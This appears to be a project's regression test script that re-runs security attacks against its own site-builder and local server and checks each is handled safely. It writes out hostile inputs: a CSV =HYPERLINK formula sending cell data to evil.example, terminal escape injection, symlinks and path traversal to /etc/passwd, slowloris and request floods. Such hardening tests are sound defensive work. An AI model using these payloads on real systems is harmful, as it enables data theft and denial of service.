#!/usr/bin/env bash
# The attacks of issue 9, re-runnable: each against a fresh copy of the fixture content (src/test/resources/it) or
# a running `serve`, with the jar of this checkout. Prints: attack | expected | result | pass, and exits 1 if any
# attack did not get what was expected.
#   src/test/sh/issue9-attacks.sh            # builds target/seisaku.jar first (mvn -o package -DskipTests)
#   src/test/sh/issue9-attacks.sh --no-build # uses the jar as it is
# Needs java, python3 (for XML parsing and raw sockets) and curl. Kill trials are KillIT's (-Dseisaku.killTrials=100).
set -uo pipefail
cd "$(dirname "$0")/../../.."
repo=$(pwd)
[ "${1:-}" = "--no-build" ] || mvn -B -q -o package -DskipTests >/dev/null || { echo "build failed" >&2; exit 3; }
jar="$repo/target/seisaku.jar"
work=$(mktemp -d)
trap 'kill $serve_pid 2>/dev/null; rm -rf "$work"' EXIT
serve_pid=
seisaku() { java -Xmx2g -jar "$jar" "$@"; }
failed=0
row() { # attack expected result pass
  printf '| %s | %s | %s | %s |\n' "$1" "$2" "$3" "$4"
  [ "$4" = yes ] || failed=1
}
fresh() { # a new content/ and judgit/ under $work/$1; prints the content folder
  local d="$work/$1"
  mkdir -p "$d"
  cp -r src/test/resources/it/content "$d/content"
  cp -r src/test/resources/it/judgit "$d/judgit"
  sed -i 's#^sources: \[\]#sources: [judgit:../judgit]#' "$d/content/site.yml"
  echo "$d/content"
}
sheet=judgit/data/2023/総務省/2023-総務-22-0015.json
clean() { ! grep -qE 'Exception|\bat org\.|\bat java\.' "$1"; }  # no exception name, no stack trace
secs() { python3 -c "import sys; print(f'{float(sys.argv[1]):.1f}')" "$1"; }
timed() { local s e; s=$(date +%s.%N); "$@"; local rc=$?; e=$(date +%s.%N); elapsed=$(python3 -c "print($e-$s)"); return $rc; }

# a check of the untouched fixture: the time every check below takes anyway (JVM start, reading, loaded machine)
c=$(fresh base); timed seisaku check --content "$c" -q > /dev/null 2>&1; base=$elapsed

echo "| attack | expected | result | pass |"
echo "|---|---|---|---|"

# 1. a control character in a title
c=$(fresh a1); printf -- '---\ntitle: "a\\x01b"\ndate: 2012-04-01\n---\n本文\n' > "$c/documents/ctl.md"
seisaku check --content "$c" -q > "$work/a1.out" 2>&1; rc=$?
seisaku build --content "$c" --out "$work/a1/site" --index "$work/a1/index" -q > "$work/a1.build" 2>&1; brc=$?
xml=$(python3 -c "
import sys, xml.dom.minidom as m
for f in sys.argv[1:]: m.parse(f)
print('well-formed')" "$work/a1/site/feed.xml" "$work/a1/site/sitemap.xml" 2>&1 | tail -1)
warned=$(grep -c "control character U+0001 removed" "$work/a1.out")
row '1. title: "a\x01b"' "check warns (exit 0), build warns, feed.xml/sitemap well-formed" "check $rc ($warned warning), build $brc, XML $xml" \
  "$([ $rc = 0 ] && [ "$warned" = 1 ] && [ $brc = 0 ] && [ "$xml" = well-formed ] && echo yes || echo no)"

# 2. terminal escapes in 事業名, then search
c=$(fresh a2); python3 - "$work/a2/$sheet" <<'EOF'
import sys; p=sys.argv[1]; t=open(p,encoding='utf-8').read()
open(p,'w',encoding='utf-8').write(t.replace('"事業名": "', '"事業名": "\\u001b[2J\\u001b]0;pwned\\u0007', 1))
EOF
seisaku build --content "$c" --out "$work/a2/site" --index "$work/a2/index" -q > /dev/null 2>&1; brc=$?
seisaku search 地域経済循環創造事業交付金 --index "$work/a2/index" > "$work/a2.out" 2>&1; rc=$?
esc=$(python3 -c "import sys; t=open(sys.argv[1],encoding='utf-8').read(); print(sum(1 for ch in t if ord(ch)<32 and ch!='\n' or 0x7f<=ord(ch)<=0x9f))" "$work/a2.out")
row '2. 事業名 "\e[2J\e]0;…\a", then search' "search prints no control character" "build $brc, search $rc, $esc control characters printed" \
  "$([ $brc = 0 ] && [ $rc = 0 ] && [ "$esc" = 0 ] && echo yes || echo no)"

# 3. one bad number: 100,000 brackets, 1e2100000000, 1e999999999; a 10 MB title
attack3() { # name, python that edits the sheet or content
  local name=$1 expect=$2; shift 2
  c=$(fresh "a3-$name"); python3 -c "$1" "$work/a3-$name" || return
  timed seisaku check --content "$c" -q > "$work/a3.out" 2>&1; rc=$?
  local bytes; bytes=$(wc -c < "$work/a3.out")
  row "3. $name" "$expect (within 10 s of a clean check's $(secs "$base") s)" "exit $rc in $(secs "$elapsed") s, $bytes bytes of messages" \
    "$([ $rc = 1 ] && clean "$work/a3.out" && [ "$bytes" -lt 4000 ] && python3 -c "import sys; sys.exit(0 if $elapsed < $base + 10 else 1)" && echo yes || echo no)"
}
attack3 "予算: 100,000 brackets" "a problem (exit 1), no StackOverflowError" "
import sys; p=sys.argv[1]+'/$sheet'; t=open(p,encoding='utf-8').read()
i=t.index('\"予算\": \"')+len('\"予算\": \"'); open(p,'w',encoding='utf-8').write(t[:i]+'['*100000+t[i:])"
attack3 "当初予算 1e2100000000" "a problem (exit 1), no OutOfMemoryError" "
import sys; p=sys.argv[1]+'/$sheet'; t=open(p,encoding='utf-8').read()
open(p,'w',encoding='utf-8').write(t.replace(\"'当初予算': 400.0\", \"'当初予算': 1e2100000000\",1))"
attack3 "a figure 1e999999999" "a problem (exit 1), short, fast" "
import sys; p=sys.argv[1]+'/$sheet'; t=open(p,encoding='utf-8').read()
open(p,'w',encoding='utf-8').write(t.replace(\"'当初予算': 400.0\", \"'当初予算': 1e999999999\",1))"
attack3 "a 10 MB front-matter title" "a problem (exit 1), at once" "
import sys; open(sys.argv[1]+'/content/documents/big.md','w').write('---\ntitle: '+'a'*10_000_000+'\n---\n')"

# 4. what check passed and build failed on
for f in "documents/-rf.md" "documents/$(printf 'a%.0s' $(seq 1 226)).md" "documents/teijuu/gaiyou.md"; do
  c=$(fresh a4); mkdir -p "$(dirname "$c/$f")"; printf -- '---\ntitle: 文書\n---\n本文\n' > "$c/$f"
  seisaku check --content "$c" -q > "$work/a4.check" 2>&1; rc=$?
  seisaku build --content "$c" --out "$work/a4/site" --index "$work/a4/index" -q > "$work/a4.build" 2>&1; brc=$?
  short=$(echo "$f" | cut -c1-40)
  row "4. $short" "check and build agree (same exit, path:line)" "check $rc, build $brc" \
    "$([ $rc = $brc ] && [ $rc != 3 ] && clean "$work/a4.build" && echo yes || echo no)"
  rm -rf "$work/a4"
done
for id in "-x" "$(printf 'p%.0s' $(seq 1 250))"; do
  c=$(fresh a4); printf -- '- {id: "%s", name: 植えた事業, ministry: soumu}\n' "$id" >> "$c/programs.yml"
  seisaku check --content "$c" -q > "$work/a4.check" 2>&1; rc=$?
  seisaku build --content "$c" --out "$work/a4/site" --index "$work/a4/index" -q > "$work/a4.build" 2>&1; brc=$?
  row "4. program id $(echo "$id" | cut -c1-12)… ($(echo -n "$id" | wc -c) chars)" "an error in check and build (exit 1)" "check $rc, build $brc" \
    "$([ $rc = 1 ] && [ $brc = 1 ] && echo yes || echo no)"
  rm -rf "$work/a4"
done

# 5. symbolic links out of the content folder
c=$(fresh a5); ln -s /etc/passwd "$c/documents/passwd.md"; ln -s /etc/hostname "$c/budget/leak.csv"
seisaku check --content "$c" -q > "$work/a5.out" 2>&1; rc=$?
row "5. documents/passwd.md → /etc/passwd, budget/leak.csv → /etc/hostname" "an error each, nothing of the target quoted" \
  "exit $rc, $(grep -c 'a symbolic link: not read' "$work/a5.out") errors, root: $(grep -c 'root' "$work/a5.out")" \
  "$([ $rc = 1 ] && [ "$(grep -c 'a symbolic link: not read' "$work/a5.out")" = 2 ] && ! grep -q root "$work/a5.out" && echo yes || echo no)"

# 6. --out / --index that only look like outputs
c=$(fresh a6); mkdir -p "$work/a6/mine/data" "$work/a6/idx"; echo '[]' > "$work/a6/mine/data/programs.json"
echo keep > "$work/a6/mine/notes.txt"; echo x > "$work/a6/idx/segments_1"; echo keep > "$work/a6/idx/notes.txt"
mkdir -p "$work/a6/.mine.previous"; echo keep > "$work/a6/.mine.previous/x"
seisaku build --content "$c" --out "$work/a6/mine" --index "$work/a6/idx" -q > "$work/a6.out" 2>&1; rc=$?
kept=$(cat "$work/a6/mine/notes.txt" "$work/a6/idx/notes.txt" "$work/a6/.mine.previous/x" 2>/dev/null | grep -c keep)
row "6. --out holding data/programs.json [], --index holding segments_1, .mine.previous beside" "refused, nothing deleted" \
  "exit $rc, $kept of 3 user files kept" "$([ $rc = 2 ] && [ "$kept" = 3 ] && echo yes || echo no)"

# 9 and 10: queries and CSV formulas on one build
c=$(fresh a9); printf '2012,総務省,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",当初,1億円,,,\n' >> "$c/budget/2012.csv"
seisaku build --content "$c" --out "$work/a9/site" --index "$work/a9/index" -q > /dev/null 2>&1
terms=$(python3 -c "print(' '.join('語%d' % i for i in range(1100)))")
timed seisaku search "$terms" --index "$work/a9/index" > "$work/a9.out" 2>&1; rc=$?
row "9. search with 1,100 terms" "usage error (exit 2), no TooManyClauses" "exit $rc: $(head -c 70 "$work/a9.out")" \
  "$([ $rc = 2 ] && clean "$work/a9.out" && echo yes || echo no)"
long=$(python3 -c "print('協'*40000)")
timed seisaku search "$long" --index "$work/a9/index" > "$work/a9.out" 2>&1; rc=$?
row "9. search of 40,000 characters" "usage error (exit 2) at once" "exit $rc in $(secs "$elapsed") s" \
  "$([ $rc = 2 ] && python3 -c "import sys; sys.exit(0 if $elapsed < 10 else 1)" && echo yes || echo no)"
seisaku search '!!!' --index "$work/a9/index" > "$work/a9.out" 2>&1; rc=$?
row "9. search '!!!' (only punctuation)" "as an empty query: usage error (exit 2)" "exit $rc: $(head -c 60 "$work/a9.out")" \
  "$([ $rc = 2 ] && echo yes || echo no)"
seisaku search -地域 --index "$work/a9/index" > "$work/a9.out" 2>&1; rc=$?
row "9. search -地域" "a query (exit 0)" "exit $rc: $(tail -1 "$work/a9.out")" "$([ $rc = 0 ] && echo yes || echo no)"
line=$(grep HYPERLINK "$work/a9/site/data/budget.csv" | head -1)
row "10. program =HYPERLINK( in a CSV" "data/budget.csv cell starts with '" "$(echo "$line" | grep -o "\"'=HYPERLINK" | head -1)" \
  "$(echo "$line" | grep -q "\"'=HYPERLINK" && echo yes || echo no)"
c=$(fresh a10); printf '2012,総務省,"unbalanced,当初,1億円,,,\n' >> "$c/budget/2012.csv"
seisaku check --content "$c" -q > "$work/a10.out" 2>&1; rc=$?
row "also: an unbalanced CSV quote" "path:line, no class name" "exit $rc: $(grep -o 'budget/2012.csv:[0-9]*: [^(]*' "$work/a10.out" | head -1 | cut -c1-60)" \
  "$([ $rc = 1 ] && grep -q 'budget/2012.csv:[0-9]' "$work/a10.out" && clean "$work/a10.out" && echo yes || echo no)"

# serve: slowloris, q=%zz, burst
port=$(python3 -c "import socket; s=socket.socket(); s.bind(('127.0.0.1',0)); print(s.getsockname()[1])")
seisaku serve --site "$work/a9/site" --index "$work/a9/index" --port "$port" > "$work/serve.out" 2>&1 &
serve_pid=$!
for _ in $(seq 1 60); do curl -s -o /dev/null "http://127.0.0.1:$port/" && break; sleep 0.5; done
result=$(python3 - "$port" <<'EOF'
import socket, sys, time, urllib.request
port = int(sys.argv[1])
slow = []
for _ in range(4):
    s = socket.create_connection(('127.0.0.1', port)); s.sendall(b"GET /index.html HTTP/1.1\r\nHost: x\r\n"); slow.append(s)
t = time.time()
try:
    code = urllib.request.urlopen(f"http://127.0.0.1:{port}/api/search?q=%E5%9C%B0%E5%9F%9F", timeout=10).status
except Exception as e:
    code = type(e).__name__
print(f"{code} in {time.time() - t:.2f} s")
EOF
)
row "8. 4 connections sending half a header, then a search" "answered within 2 s" "$result" \
  "$(echo "$result" | python3 -c "import sys; c,_,t,_=sys.stdin.read().split(); sys.exit(0 if c=='200' and float(t)<2 else 1)" && echo yes || echo no)"
zz=$(curl -s -i "http://127.0.0.1:$port/api/search?q=%zz")
row "9. GET /api/search?q=%zz" "400 with JSON" "$(echo "$zz" | head -1 | tr -d '\r'); $(echo "$zz" | tail -1 | cut -c1-50)" \
  "$(echo "$zz" | head -1 | grep -q ' 400 ' && echo "$zz" | tail -1 | grep -q '^{"error":' && echo yes || echo no)"
bad=$(printf 'GARBAGE\r\n\r\n' | python3 -c "
import socket,sys; s=socket.create_connection(('127.0.0.1',int(sys.argv[1]))); s.sendall(sys.stdin.buffer.read()); s.settimeout(5); print(s.recv(4000).decode().split('\r\n\r\n')[-1].strip())" "$port")
row "serve: a request line that is no request" "JSON error" "$bad" "$(echo "$bad" | grep -q '^{"error":' && echo yes || echo no)"
codes=$(python3 - "$port" <<'EOF'
import sys, urllib.request, urllib.error, concurrent.futures as cf
port = int(sys.argv[1])
def get(i):
    try: return urllib.request.urlopen(f"http://127.0.0.1:{port}/api/search?q=%E5%9C%B0%E5%9F%9F", timeout=30).status
    except urllib.error.HTTPError as e: return e.code
    except Exception as e: return type(e).__name__
with cf.ThreadPoolExecutor(100) as ex: r = list(ex.map(get, range(500)))
r = [str(x) for x in r]
print(" ".join(f"{c}:{r.count(c)}" for c in sorted(set(r))))
EOF
)
row "serve: 500 concurrent searches" "200 or 503 only" "$codes" "$(echo "$codes" | grep -qvE '(^| )[^25 ][^ ]*:' && ! echo "$codes" | grep -qE '(^| )(500|[A-Za-z])' && echo yes || echo no)"
leak=$(curl -s --path-as-is "http://127.0.0.1:$port/../../../../etc/passwd"; curl -s --path-as-is "http://127.0.0.1:$port/%2e%2e/%2e%2e/etc/passwd")
row "serve: /../../etc/passwd, /%2e%2e/…" "nothing outside the site" "$(echo "$leak" | grep -c 'root:') lines of /etc/passwd" \
  "$(echo "$leak" | grep -q 'root:' && echo no || echo yes)"

echo
[ $failed = 0 ] && echo "all attacks got what was expected" || echo "SOME ATTACKS FAILED"
exit $failed
